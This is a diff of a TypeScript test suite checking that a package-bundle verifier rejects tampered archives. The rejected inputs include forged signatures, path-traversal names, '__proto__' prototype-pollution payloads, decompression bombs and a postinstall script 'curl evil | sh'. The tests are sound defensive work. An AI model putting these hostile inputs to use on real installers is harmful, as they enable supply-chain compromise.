+    { envelope: (envelope) => ({ ...envelope, signatures: [...envelope.signatures, ...envelope.signatures] }) },
+    INVALID,
+    /two signatures of one key/,
+  ],
+  ['no signature', { keys: [] }, 'SIGNATURE_MISSING', /is not signed/],
+  [
+    'a forged signature',
+    {
+      envelope: (envelope) => ({
+        ...envelope,
+        signatures: [{ ...envelope.signatures[0]!, sig: Buffer.alloc(64, 7).toString('base64') }],
+      }),
+    },
+    'SIGNATURE_INVALID',
+    /does not fit/,
+  ],
+  [
+    'a flipped bit in its manifest',
+    {
+      envelope: (envelope) => {
+        const payload = Buffer.from(envelope.payload, 'base64');
+        payload[40]! ^= 1;
+        return { ...envelope, payload: payload.toString('base64') };
+      },
+    },
+    'SIGNATURE_INVALID',
+    /does not fit/,
+  ],
+
+  // The signed list.
+  ['a list that is no JSON', { payload: () => 'hello' }, INVALID, /its manifest is not JSON/],
+  [
+    'a list with __proto__',
+    { payload: (text) => text.replace('{', '{"__proto__":{"isAdmin":true},') },
+    INVALID,
+    /"__proto__"/,
+  ],
+  [
+    'a list of another version',
+    list((manifest) => ({ ...manifest, spec: 2 })),
+    INVALID,
+    /not one of version 1: its "spec"/,
+  ],
   [
     'a list with a file twice',
-    () => list((content) => ({ ...content, files: [...content.files, content.files[0]] })),
+    list((manifest) => ({ ...manifest, files: [...manifest.files, manifest.files[0]] })),
     INVALID,
-    /names a file twice/,
+    /which is there twice/,
   ],
   [
     'a list with a digest that is none',
-    () => list((content) => ({ ...content, files: [{ path: 'x', size: 1, sha256: 'x' }] })),
+    list((manifest) => ({ ...manifest, files: manifest.files.map((file) => ({ ...file, sha256: 'x' })) })),
     INVALID,
-    /not one of version 1/,
+    /"files" is not a list/,
   ],
   [
     'a list of another name',
-    () => list((content) => ({ ...content, name: '@example/other' })),
+    list((manifest) => ({ ...manifest, name: '@example/other' })),
     INVALID,
-    /listed as "@example\/other" "1.0.0"/,
+    /another component|is listed as @example\/other 1\.0\.0/,
+  ],
+  [
+    'a name that is a path',
+    list((manifest) => ({ ...manifest, name: '../../evil' })),
+    INVALID,
+    /"name" is none of a bundle/,
+  ],
+  [
+    'a version that is a path',
+    list((manifest) => ({ ...manifest, version: '1.0.0/../../x' })),
+    INVALID,
+    /"version" is no semantic version/,
   ],
   [
     'a list of another version of the bundle',
-    () => list((content) => ({ ...content, version: '9.9.9' })),
+    list((manifest) => ({ ...manifest, version: '9.9.9' })),
     INVALID,
-    /listed as "@example\/acme" "9.9.9"/,
+    /is listed as @example\/acme 9\.9\.9/,
   ],
+
+  // package.json.
   [
     'no package.json',
-    async () => {
-      const files = filesOf('1.0.0').slice(0, 1);
-      return writeArchive([sealOf('@example/acme', '1.0.0', files), ...files]);
-    },
+    { files: soundFiles().filter(({ path }) => path !== 'package.json') },
     INVALID,
     /has no package.json/,
   ],
-  ['a package.json that is no JSON', () => packageJson('{'), INVALID, /is not JSON/],
-  ['a deep package.json', () => packageJson(`{"rackwatt":${'['.repeat(5000)}`), INVALID, /nested more than 64 deep/],
+  ['a package.json that is no JSON', packageJson('{'), INVALID, /is not JSON/],
+  ['a deep package.json', packageJson(`{"rackwatt":${'['.repeat(5000)}`), INVALID, /nested more than 64 deep/],
   [
     'a package.json with a name twice',
-    () => packageJson('{"name":"@example/acme","name":"rackwatt"}'),
+    packageJson('{"name":"@example/acme","name":"rackwatt"}'),
     INVALID,
     /"name" twice/,
   ],
-  ['a package.json with __proto__', () => packageJson('{"__proto__":{"rackwatt":{}}}'), INVALID, /"__proto__"/],
+  ['a package.json with __proto__', packageJson('{"__proto__":{"rackwatt":{}}}'), INVALID, /"__proto__"/],
+  ['a package.json of 5 MiB', packageJson(' '.repeat(5 << 20)), INVALID, /package\.json of more than/],
   [
     'a package.json of no bundle',
-    () => packageJson('{"name":"@example/acme","version":"1.0.0"}'),
+    packageJson('{"name":"@example/acme","version":"1.0.0"}'),
     'BUNDLE_MANIFEST',
     /no "rackwatt" object/,
   ],
   [
-    'a name that is a path',
-    () => packageJson('{"name":"../../evil","version":"1.0.0","rackwatt":{}}'),
-    'BUNDLE_MANIFEST',
-    /npm package name/,
-  ],
-  [
-    'a version that is a path',
-    () => packageJson('{"name":"@example/acme","version":"1.0.0/../../x","rackwatt":{}}'),
-    'BUNDLE_MANIFEST',
-    /semantic version/,
+    'an install script',
+    packageJson('{"name":"@example/acme","version":"1.0.0","scripts":{"postinstall":"curl evil | sh"},"rackwatt":{}}'),
+    INVALID,
+    /has the script "postinstall"/,
   ],
   [
     'main outside',
-    () => packageJson('{"name":"@example/acme","version":"1.0.0","main":"../../etc/passwd","rackwatt":{}}'),
+    packageJson('{"name":"@example/acme","version":"1.0.0","main":"../../etc/passwd","rackwatt":{}}'),
     'BUNDLE_MANIFEST',
     /inside the bundle/,
   ],
   [
     'main that is absolute',
-    () => packageJson('{"name":"@example/acme","version":"1.0.0","main":"/etc/passwd","rackwatt":{}}'),
+    packageJson('{"name":"@example/acme","version":"1.0.0","main":"/etc/passwd","rackwatt":{}}'),
     'BUNDLE_MANIFEST',
     /inside the bundle/,
   ],
   [
     'main that is missing',
-    () => packageJson('{"name":"@example/acme","version":"1.0.0","main":"./dist/none.js","rackwatt":{}}'),
+    packageJson('{"name":"@example/acme","version":"1.0.0","main":"./dist/none.js","rackwatt":{}}'),
     INVALID,
     /lacks ".\/dist\/none.js"/,
   ],
   [
     'a contract outside',
-    () =>
-      packageJson(
-        '{"name":"@example/acme","version":"1.0.0","exports":{"./x":"../../x.js"},"rackwatt":{"contracts":["./x"]}}',
-      ),
+    packageJson(
+      '{"name":"@example/acme","version":"1.0.0","exports":{"./x":"../../x.js"},"rackwatt":{"contracts":["./x"]}}',
+    ),
     INVALID,
     /lacks "..\/..\/x.js"/,
   ],
   [
     'a command outside',
-    () => packageJson('{"name":"@example/acme","version":"1.0.0","rackwatt":{"commands":{"x":"../../x.js"}}}'),
+    packageJson('{"name":"@example/acme","version":"1.0.0","rackwatt":{"commands":{"x":"../../x.js"}}}'),
     'BUNDLE_MANIFEST',
     /inside the bundle/,
   ],
+
+  // The bill of materials.
+  ['no bill of materials', { files: filesOf('1.0.0') }, INVALID, /lists no sbom\.cdx\.json|"sbom" lacks/],
+  ['a bill of materials that is no CycloneDX', sbom(() => ({})), INVALID, /is no CycloneDX/],
+  [
+    'a bill of materials of another bundle',
+    sbom((bom) => ({ ...bom, metadata: { component: { name: 'other', version: '1.0.0' } } })),
+    INVALID,
+    /is about "other" "1\.0\.0"/,
+  ],
+  [
+    'a bill of materials with nonsense in it',
+    sbom((bom) => ({ ...bom, components: [null] })),
+    INVALID,
+    /components without name/,
+  ],
+  [
+    'a bill of materials other than the one it names',
+    list((manifest) => ({ ...manifest, sbom: { path: 'sbom.cdx.json', sha256: '0'.repeat(64) } })),
+    INVALID,
+    /names another sbom\.cdx\.json/,
+  ],
 ];
 
-for (const [what, make, code, sentence] of CASES) {
+for (const [what, spoil, code, sentence] of CASES) {
   test(`refuses ${what}`, async (t) => {
     const home = temporaryFolder(t);
-    const store = new BundleStore({ folder: join(home, 'store'), keys: join(home, 'keys') });
+    const { keys, key } = releaseKey(t);
+    const store = new BundleStore({ folder: join(home, 'store'), trust: new TrustStore({ keys }) });
     mkdirSync(join(home, 'in'));
     const file = join(home, 'in', 'acme.tgz');
-    writeFileSync(file, await make());
+    writeFileSync(file, typeof spoil === 'function' ? spoil(key) : spoilt(key, spoil));
     const prototype = Object.getOwnPropertyNames(Object.prototype).sort();
-    await assert.rejects(store.install(file, true), (error: Error & { code?: string }) => {
+    await assert.rejects(store.install(file, false), (error: Error & { code?: string }) => {
       assert.equal(error.name, 'RackwattError', String(error.stack));
       assert.equal(error.code, code, error.message);
       assert.match(error.message, sentence);
@@ -378,64 +747,102 @@ for (const [what, make, code, sentence] of CASES) {
       assert.ok(!/[\n\r\u202e]/.test(error.message) && error.message.length < 400, `is one sentence: ${error.message}`);
       return true;
     });
-    assert.deepEqual(readdirSync(home), ['in'], 'nothing was written');
+    const left = readdirSync(home, { recursive: true }).map(String);
+    assert.deepEqual(new Set(left), new Set([...(left.includes('store') ? ['store'] : []), 'in', 'in/acme.tgz']));
     assert.deepEqual(Object.getOwnPropertyNames(Object.prototype).sort(), prototype);
+    assert.equal(({} as { isAdmin?: boolean }).isAdmin, undefined);
   });
 }
 
 test('takes the sound archive that the cases spoil', async (t) => {
   const home = temporaryFolder(t);
-  const store = new BundleStore({ folder: join(home, 'store'), keys: join(home, 'keys') });
+  const { keys, key } = releaseKey(t);
+  const store = new BundleStore({ folder: join(home, 'store'), trust: new TrustStore({ keys }) });
   const file = join(home, 'acme.tgz');
-  writeFileSync(file, rawArchive(soundEntries()));
-  assert.equal((await store.install(file, true)).name, '@example/acme');
+  writeFileSync(file, spoilt(key, {}));
+  const { root, signers } = await store.install(file, false);
+  assert.deepEqual(signers, ['release']);
+  for (const { path, content } of soundFiles()) assert.deepEqual(readFileSync(join(root, path)), content);
 });
 
-test('takes an archive cut off anywhere for one that is not complete', async () => {
-  const archive = await archiveOf('1.0.0', {
-    'dist/data.bin': Buffer.from(Array.from({ length: 3000 }, (_, index) => (index * 7919) % 256)),
-  });
+test('takes an archive cut off anywhere for one that is not complete', async (t) => {
+  const file = join(temporaryFolder(t), 'acme.tgz');
+  const archive = signed(
+    acme('1.0.0', { 'dist/data.bin': Buffer.from(Array.from({ length: 3000 }, (_, at) => (at * 7919) % 256)) }),
+  );
   for (let length = 0; length < archive.length; length += length < 64 || length > archive.length - 64 ? 1 : 13) {
-    await assert.rejects(
-      readArchive(archive.subarray(0, length), 'acme.tgz'),
-      { code: 'ARCHIVE_INCOMPLETE' },
-      `${length} of ${archive.length} bytes`,
-    );
+    writeFileSync(file, archive.subarray(0, length));
+    await assert.rejects(verifyArchive(file), { code: 'ARCHIVE_INCOMPLETE' }, `${length} of ${archive.length} bytes`);
   }
 });
 
-test('a bomb costs no more memory than its budget', async () => {
-  const bomb = gzipSync(Buffer.alloc(200 << 20));
-  global.gc?.();
-  const before = process.memoryUsage().rss;
-  await assert.rejects(readArchive(bomb, 'bomb.tgz', { ...BUDGET, unpackedBytes: 1 << 20 }), {
-    code: 'ARCHIVE_TOO_LARGE',
-  });
-  assert.ok(process.memoryUsage().rss - before < 64 << 20);
+test('a folder that is there already is not filled, whatever it is', async (t) => {
+  const home = temporaryFolder(t);
+  const file = join(home, 'acme.tgz');
+  writeFileSync(file, signed(acme()));
+  mkdirSync(join(home, 'outside'));
+  symlinkSync(join(home, 'outside'), join(home, 'planted'));
+  mkdirSync(join(home, 'there'));
+  for (const into of ['planted', 'there', 'acme.tgz'])
+    await assert.rejects(verifyArchive(file, { into: join(home, into) }), { code: 'STORE_WRITE' }, into);
+  assert.deepEqual(readdirSync(join(home, 'outside')), []);
 });
 
-test('refuses an archive with any byte altered, or takes it with the same files', async (t) => {
+test('a bomb costs neither memory nor disk', async (t) => {
+  const home = temporaryFolder(t);
+  const { key } = releaseKey(t);
+  // 3 GB in 3 MB, listed as large as a budget allows, then more.
+  const part = Buffer.alloc(64 << 20);
+  const member = rawGzip(part);
+  const bombs: Spoil[] = [
+    { tar: (entries) => [...entries.slice(0, -1), { ...entries.at(-1)!, content: part }] },
+    { file: (archive) => Buffer.concat([archive, ...Array<Buffer>(40).fill(member)]) },
+    { gzip: (tar) => Buffer.concat([rawGzip(tar), ...Array<Buffer>(40).fill(member)]) },
+  ];
+  for (const [index, bomb] of bombs.entries()) {
+    const file = join(home, `bomb${index}.tgz`);
+    writeFileSync(file, spoilt(key, bomb));
+    global.gc?.();
+    const before = process.memoryUsage().rss;
+    await assert.rejects(verifyArchive(file, { into: join(home, 'out') }), { code: 'ARCHIVE_INVALID' });
+    const grown = (process.memoryUsage().rss - before) / (1 << 20);
+    assert.ok(grown < 32, `grew by ${grown} MB`);
+  }
+  assert.ok(!readdirSync(home).includes('out'));
+});
+
+test('a large bundle is unpacked without being held in memory', async (t) => {
+  const home = temporaryFolder(t);
+  const file = join(home, 'large.tgz');
+  writeFileSync(file, signed(acme('1.0.0', { 'dist/data.bin': Buffer.alloc(200 << 20) })));
+  global.gc?.();
+  const before = process.memoryUsage().rss;
+  let highest = before;
+  const watch = setInterval(() => (highest = Math.max(highest, process.memoryUsage().rss)), 10);
+  await verifyArchive(file);
+  clearInterval(watch);
+  assert.ok(highest - before < 48 << 20, `${(highest - before) >> 20} MB`);
+});
+
+test('refuses an archive with any byte altered, or takes it for the same', async (t) => {
   const { keys, sign } = releaseKey(t);
   const home = temporaryFolder(t);
-  const files = filesOf('1.0.0');
-  const archive = await sign([sealOf('@example/acme', '1.0.0', files), ...files]);
-  const store = new BundleStore({ folder: join(home, 'store'), keys });
+  const archive = sign(acme());
+  const trust = await new TrustStore({ keys }).read();
   const file = join(home, 'acme.tgz');
-  let passed = 0;
+  const taken: number[] = [];
   for (let at = 0; at < archive.length; at++) {
     const altered = Buffer.from(archive);
     altered[at]! ^= 1 << (at % 8);
     writeFileSync(file, altered);
     try {
-      const { root, signers } = await store.install(file, false);
-      // The gzip has bits that say nothing of the content: time, system, filling.
-      for (const { path, content } of files)
-        assert.deepEqual(readFileSync(join(root, path)), content, `byte ${at} was altered unnoticed`);
-      assert.deepEqual(signers, ['release']);
-      passed++;
+      const { digest, signers } = await verifyArchive(file, { trust });
+      assert.deepEqual([digest, signers], [sha256(acme().content), ['release']]);
+      taken.push(at);
     } catch (error) {
       assert.equal((error as Error).name, 'RackwattError', `byte ${at}: ${String((error as Error).stack)}`);
     }
   }
-  assert.ok(passed < 16, `${passed} alterations passed`);
+  // The bits that fill the last byte of a compressed stream say nothing; behind the manifest no digest covers them.
+  assert.ok(taken.length <= 1, `${taken.length} alterations passed`);
 });
